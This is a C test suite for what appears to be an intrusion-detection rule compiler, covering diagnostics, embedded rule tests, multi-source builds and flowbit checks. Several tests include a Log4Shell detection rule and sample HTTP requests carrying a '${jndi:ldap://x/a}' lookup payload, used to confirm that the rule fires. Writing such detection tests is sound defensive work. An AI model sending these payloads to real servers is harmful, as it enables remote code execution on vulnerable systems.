/* The compiler API: all diagnostics at once with positions, embedded tests,
 * warnings, several sources, argument checks. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testutil.h"

static vp_compiler_t *compile_text(const char *name, const char *yaml, vp_status *st)
{
    vp_compiler_t *c;
    ck_assert_int_eq(vp_compiler_create(&c), VP_OK);
    ck_assert_int_eq(vp_compiler_add_memory(c, name, yaml, strlen(yaml)), VP_OK);
    uint8_t *bundle = NULL;
    size_t len = 0;
    *st = vp_compiler_build(c, &bundle, &len);
    ck_assert((*st == VP_OK) == (bundle != NULL));
    vp_compiler_bundle_free(bundle);
    return c;
}

static void assert_diags(const vp_compiler_t *c, const char *const *expected, size_t n)
{
    char buf[512];
    for (size_t i = 0; i < n && i < vp_compiler_diag_count(c); i++) {
        vp_compiler_diag_format(c, i, buf, sizeof(buf));
        ck_assert_str_eq(buf, expected[i]);
    }
    ck_assert_uint_eq(vp_compiler_diag_count(c), n);
}

static const char *many_errors =
    "format: 1\n"
    "rules:\n"
    "  - id: 1\n"
    "    name: ok\n"
    "    severity: high\n"
    "    match:\n"
    "      - content: \"abc\"\n"
    "        depth: ten\n"
    "  - id: 1\n"
    "    name: dup\n"
    "    severity: severe\n"
    "    colour: red\n"
    "    match:\n"
    "      - content: abc\n"
    "        distance: 2\n"
    "  - id: 3\n"
    "    name: regex\n"
    "    severity: low\n"
    "    cve: [CVE-21-1]\n"
    "    match:\n"
    "      - regex: \"a(b\"\n"
    "      - content: x\n"
    "        buffer: http.bogus\n"
    "  - name: noid\n"
    "    match: []\n";

START_TEST(test_all_errors_at_once)
{
    vp_status st;
    vp_compiler_t *c = compile_text("bad.yaml", many_errors, &st);
    ck_assert_int_eq(st, VP_E_COMPILE);
    const char *expected[] = {
        "bad.yaml:8:16: depth must be a non-negative integer, got \"ten\"",
        "bad.yaml:9:9: duplicate rule id 1 (first defined at 3:9)",
        "bad.yaml:11:15: severity must be one of low, medium, high, critical, got \"severe\"",
        "bad.yaml:12:5: unknown rule field 'colour'",
        "bad.yaml:14:9: the first condition cannot be relative (distance/within)",
        "bad.yaml:19:11: malformed CVE id \"CVE-21-1\", expected CVE-YYYY-NNNN",
        NULL, /* regex message text comes from Hyperscan: checked by prefix below */
        "bad.yaml:23:17: unknown buffer 'http.bogus' (stream, http.method, http.uri, http.uri.raw, http.request_line, http.header, http.header.raw, http.header_names, http.host, http.user_agent, http.cookie, http.content_type, http.request_body, http.stat_code or http.response_body)",
        "bad.yaml:24:5: rule is missing required field 'id'",
        "bad.yaml:24:5: rule is missing required field 'severity'",
        "bad.yaml:25:12: match must be a non-empty list of conditions, got an empty list",
    };
    size_t n = sizeof(expected) / sizeof(expected[0]);
    ck_assert_uint_eq(vp_compiler_diag_count(c), n);
    ck_assert_uint_eq(vp_compiler_error_count(c), n);
    char buf[512];
    for (size_t i = 0; i < n; i++) {
        vp_compiler_diag_format(c, i, buf, sizeof(buf));
        if (expected[i])
            ck_assert_str_eq(buf, expected[i]);
        else
            ck_assert_msg(strncmp(buf, "bad.yaml:21:16: regex is not supported by Hyperscan: ",
                                  53) == 0, "%s", buf);
    }
    /* Structured form of one of them. */
    vp_diagnostic_t d = {.size = sizeof(d)};
    ck_assert_int_eq(vp_compiler_diag_at(c, 5, &d), VP_OK);
    ck_assert_int_eq(d.severity, VP_DIAG_ERROR);
    ck_assert_int_eq(d.code, VP_D_TYPE);
    ck_assert_str_eq(d.file, "bad.yaml");
    ck_assert_uint_eq(d.line, 19);
    ck_assert_uint_eq(d.column, 11);
    ck_assert_uint_eq(d.rule_id, 3);
    ck_assert_int_eq(vp_compiler_diag_at(c, n, &d), VP_E_INVALID);
    vp_compiler_free(c);
}
END_TEST

START_TEST(test_embedded_tests_run)
{
    const char *yaml = "format: 1\n"
                       "rules:\n"
                       "  - id: 5\n"
                       "    name: t\n"
                       "    severity: high\n"
                       "    match: [{content: \"${jndi:\", nocase: true}]\n"
                       "    tests:\n"
                       "      - data: \"GET /?q=${JNDI:ldap://x/a} HTTP/1.1\\r\\n\\r\\n\"\n"
                       "        expect: match\n"
                       "      - hex: \"47 45 54 20 2f 20\"\n"
                       "        expect: match\n"
                       "      - data: \"${jndi\"\n"
                       "        expect: nomatch\n"
                       "      - data: \"x${jndi:\"\n"
                       "        expect: nomatch\n";
    vp_status st;
    vp_compiler_t *c = compile_text("t.yaml", yaml, &st);
    ck_assert_int_eq(st, VP_E_COMPILE);
    const char *expected[] = {
        "t.yaml:10:9: test expects match but rule 5 did not fire",
        "t.yaml:14:9: test expects nomatch but rule 5 fired at offset 8",
    };
    assert_diags(c, expected, 2);
    /* With tests switched off the same sources build. */
    ck_assert_int_eq(vp_compiler_set_run_tests(c, 0), VP_OK);
    uint8_t *b;
    size_t len;
    ck_assert_int_eq(vp_compiler_build(c, &b, &len), VP_OK);
    ck_assert_uint_eq(vp_compiler_diag_count(c), 0);
    vp_compiler_bundle_free(b);
    vp_compiler_free(c);
}
END_TEST

START_TEST(test_spec_example)
{
    /* The example of ../shared/spec/rule-format.md ("Tests inside rules"). */
    const char *yaml = "format: 1\n"
                       "ruleset: acme-endpoint\n"
                       "rules:\n"
                       "  - id: 1011242\n"
                       "    name: Log4Shell JNDI lookup\n"
                       "    cve: [CVE-2021-44228]\n"
                       "    severity: critical\n"
                       "    match:\n"
                       "      - content: \"${jndi:\"\n"
                       "    tests:\n"
                       "      - data: \"GET /?q=${jndi:ldap://x/a} HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n\"\n"
                       "        expect: match\n"
                       "      - hex: \"47 45 54 20 2f 20\"\n"
                       "        expect: nomatch\n";
    vp_status st;
    vp_compiler_t *c = compile_text("spec.yaml", yaml, &st);
    ck_assert_int_eq(st, VP_OK);
    ck_assert_uint_eq(vp_compiler_diag_count(c), 0);
    vp_compiler_free(c);
}
END_TEST

START_TEST(test_warning_does_not_fail)
{
    const char *yaml = "format: 1\n"
                       "rules:\n"
                       "  - id: 9\n"
                       "    name: perf only\n"
                       "    severity: low\n"
                       "    modes: [performance]\n"
                       "    match: [{content: a}]\n";
    vp_status st;
    vp_compiler_t *c = compile_text("w.yaml", yaml, &st);
    ck_assert_int_eq(st, VP_OK);
    ck_assert_uint_eq(vp_compiler_diag_count(c), 1);
    ck_assert_uint_eq(vp_compiler_error_count(c), 0);
    vp_diagnostic_t d = {.size = sizeof(d)};
    ck_assert_int_eq(vp_compiler_diag_at(c, 0, &d), VP_OK);
    ck_assert_int_eq(d.severity, VP_DIAG_WARNING);
    ck_assert_int_eq(d.code, VP_D_MODES);
    char buf[256];
    vp_compiler_diag_format(c, 0, buf, sizeof(buf));
    ck_assert_msg(strncmp(buf, "w.yaml:6:", 9) == 0 && strstr(buf, "warning: "), "%s", buf);
    vp_compiler_free(c);
}
END_TEST

START_TEST(test_several_sources)
{
    const char *a = "format: 1\nruleset: first\nrules:\n"
                    "  - {id: 1, name: a, severity: low, match: [{content: a}]}\n";
    const char *b = "format: 1\nrules:\n"
                    "  - {id: 2, name: b, severity: low, match: [{content: b}]}\n"
                    "  - {id: 1, name: again, severity: low, match: [{content: c}]}\n";
    vp_compiler_t *c;
    ck_assert_int_eq(vp_compiler_create(&c), VP_OK);
    ck_assert_int_eq(vp_compiler_add_memory(c, "a.yaml", a, strlen(a)), VP_OK);
    ck_assert_int_eq(vp_compiler_add_memory(c, "b.yaml", b, strlen(b)), VP_OK);
    ck_assert_int_eq(vp_compiler_add_file(c, "/nonexistent/c.yaml"), VP_OK);
    uint8_t *bundle;
    size_t len;
    ck_assert_int_eq(vp_compiler_build(c, &bundle, &len), VP_E_COMPILE);
    ck_assert_uint_eq(vp_compiler_diag_count(c), 2);
    char buf[256];
    vp_compiler_diag_format(c, 0, buf, sizeof(buf));
    ck_assert_msg(strstr(buf, "b.yaml:4:") == buf && strstr(buf, "first defined at a.yaml:4:"),
                  "%s", buf);
    vp_compiler_diag_format(c, 1, buf, sizeof(buf));
    ck_assert_msg(strstr(buf, "/nonexistent/c.yaml: cannot read rule source") == buf, "%s", buf);
    vp_compiler_free(c);

    /* Without the conflict the two sources make one bundle. */
    ck_assert_int_eq(vp_compiler_create(&c), VP_OK);
    ck_assert_int_eq(vp_compiler_add_memory(c, "a.yaml", a, strlen(a)), VP_OK);
    const char *b_ok = "format: 1\nrules:\n"
                       "  - {id: 2, name: b, severity: low, match: [{content: b}]}\n";
    ck_assert_int_eq(vp_compiler_add_memory(c, "b.yaml", b_ok, strlen(b_ok)), VP_OK);
    ck_assert_int_eq(vp_compiler_set_serial(c, 7), VP_OK);
    ck_assert_int_eq(vp_compiler_build(c, &bundle, &len), VP_OK);
    vp_bundle_t *loaded;
    ck_assert_int_eq(vp_bundle_load_memory(bundle, len, &loaded, NULL), VP_OK);
    ck_assert_uint_eq(vp_bundle_rule_count(loaded), 2);
    ck_assert_uint_eq(vp_bundle_serial(loaded), 7);
    ck_assert_str_eq(vp_bundle_ruleset(loaded), "first");
    vp_bundle_free(loaded);
    vp_compiler_bundle_free(bundle);
    vp_compiler_free(c);
}
END_TEST

START_TEST(test_compiler_args)
{
    vp_compiler_t *c;
    ck_assert_int_eq(vp_compiler_create(NULL), VP_E_INVALID);
    ck_assert_int_eq(vp_compiler_create(&c), VP_OK);
    ck_assert_int_eq(vp_compiler_add_memory(NULL, "x", "", 0), VP_E_INVALID);
    ck_assert_int_eq(vp_compiler_add_memory(c, NULL, "", 0), VP_E_INVALID);
    ck_assert_int_eq(vp_compiler_add_memory(c, "x", NULL, 3), VP_E_INVALID);
    ck_assert_int_eq(vp_compiler_add_file(c, NULL), VP_E_INVALID);
    ck_assert_int_eq(vp_compiler_set_run_tests(c, 5), VP_E_INVALID);
    ck_assert_int_eq(vp_compiler_build(c, NULL, NULL), VP_E_INVALID);
    vp_diagnostic_t d = {.size = sizeof(d)};
    ck_assert_int_eq(vp_compiler_diag_at(c, 0, &d), VP_E_INVALID);
    ck_assert_uint_eq(vp_compiler_diag_format(c, 0, NULL, 0), 0);
    vp_compiler_free(c);
    vp_compiler_free(NULL);
}
END_TEST

START_TEST(test_limits_and_combinations)
{
    struct {
        const char *match;
        const char *message;
    } rows[] = {
        {"[{content: ab}, {content: cd, distance: 70000, within: 10}]", "65536"},
        {"[{content: ab}, {content: cd, distance: -70000}]", "65536"},
        {"[{content: ab, negate: true}, {content: cd, distance: 1}]", "cannot follow a negated"},
        {"[{content: ab}, {regex: \"c+d\", distance: 1, within: 9}]", "within on a regex"},
        {"[{content: ab}, {regex: \"c+d\", distance: -1}]", "distance >= 0"},
        {"[{content: ab, negate: true}, {content: x}, {regex: \"c+d\", distance: 0, negate: true}]", "positive"},
        {"[{regex: ab, depth: 5}, {regex: \"c+d\", distance: 0}]", "no offset/depth"},
        {"[{content: abcd, depth: 3}]", "shorter than the content"},
        {"[{regex: \"a*\"}]", "empty string"},
        {"[{content: ab, regex: cd}]", NULL},
        {"[{content: \"\"}]", NULL},
        {"[{hex: \"6\"}]", NULL},
        {"[{content: a, flags: i}]", NULL},
        {"[{regex: a, nocase: true}]", NULL},
        {"[{regex: a, flags: q}]", NULL},
    };
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        char yaml[512];
        snprintf(yaml, sizeof(yaml),
                 "format: 1\nrules:\n  - id: 1\n    name: n\n    severity: low\n    match: %s\n",
                 rows[i].match);
        vp_status st;
        vp_compiler_t *c = compile_text("l.yaml", yaml, &st);
        ck_assert_msg(st == VP_E_COMPILE, "row %zu accepted: %s", i, rows[i].match);
        char buf[512];
        vp_compiler_diag_format(c, 0, buf, sizeof(buf));
        ck_assert_msg(strncmp(buf, "l.yaml:6:", 9) == 0, "row %zu: %s", i, buf);
        if (rows[i].message)
            ck_assert_msg(strstr(buf, rows[i].message), "row %zu: %s", i, buf);
        vp_compiler_free(c);
    }
}
END_TEST

/* Flowbits between a stream rule and an HTTP rule of one direction would
 * depend on chunking: refused, with both rules named; across directions,
 * or between rules of one kind, they compile. */
START_TEST(test_flowbit_kinds)
{
    static const char head[] = "format: 1\nrules:\n";
    static const char set_raw[] =
        "  - {id: 1, name: s, severity: low, action: detect, noalert: true, %s\n"
        "     flowbits: [{set: x}], match: [{content: LOGIN}]}\n";
    static const char check_http[] =
        "  - {id: 2, name: c, severity: low, %s\n"
        "     flowbits: [{isset: x}], match: [{content: /a, buffer: http.uri}]}\n";
    struct {
        const char *set_dir, *check_dir;
        int ok;
    } rows[] = {
        {"direction: to_server,", "direction: to_server,", 0},
        {"direction: any,", "direction: to_server,", 0},
        {"direction: to_client,", "direction: to_server,", 1},
    };
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        char yaml[1024], a[256], b[256];
        snprintf(a, sizeof a, set_raw, rows[i].set_dir);
        snprintf(b, sizeof b, check_http, rows[i].check_dir);
        snprintf(yaml, sizeof yaml, "%s%s%s", head, a, b);
        vp_status st;
        vp_compiler_t *c = compile_text("k.yaml", yaml, &st);
        ck_assert_msg((st == VP_OK) == rows[i].ok, "row %zu: status %d", i, st);
        if (!rows[i].ok) {
            char buf[512];
            vp_compiler_diag_format(c, 0, buf, sizeof(buf));
            ck_assert_msg(strstr(buf, "k.yaml:6:") && strstr(buf, "flowbit 'x'") &&
                              strstr(buf, "rule 1"), "row %zu: %s", i, buf);
        }
        vp_compiler_free(c);
    }
    /* one rule on both kinds */
    vp_status st;
    vp_compiler_t *c = compile_text(
        "m.yaml",
        "format: 1\nrules:\n  - {id: 3, name: m, severity: low, flowbits: [{set: y}],\n"
        "     match: [{content: a}, {content: /b, buffer: http.uri}]}\n", &st);
    ck_assert_int_eq(st, VP_E_COMPILE);
    char buf[512];
    vp_compiler_diag_format(c, 0, buf, sizeof(buf));
    ck_assert_msg(strstr(buf, "either the stream or HTTP buffers"), "%s", buf);
    vp_compiler_free(c);
}
END_TEST

int main(void)
{
    Suite *s = suite_create("compiler");
    TCase *tc = tcase_create("compiler");
    tcase_set_timeout(tc, 60);
    tcase_add_test(tc, test_all_errors_at_once);
    tcase_add_test(tc, test_embedded_tests_run);
    tcase_add_test(tc, test_spec_example);
    tcase_add_test(tc, test_warning_does_not_fail);
    tcase_add_test(tc, test_several_sources);
    tcase_add_test(tc, test_compiler_args);
    tcase_add_test(tc, test_limits_and_combinations);
    tcase_add_test(tc, test_flowbit_kinds);
    suite_add_tcase(s, tc);
    return vp_test_run_suite(s);
}
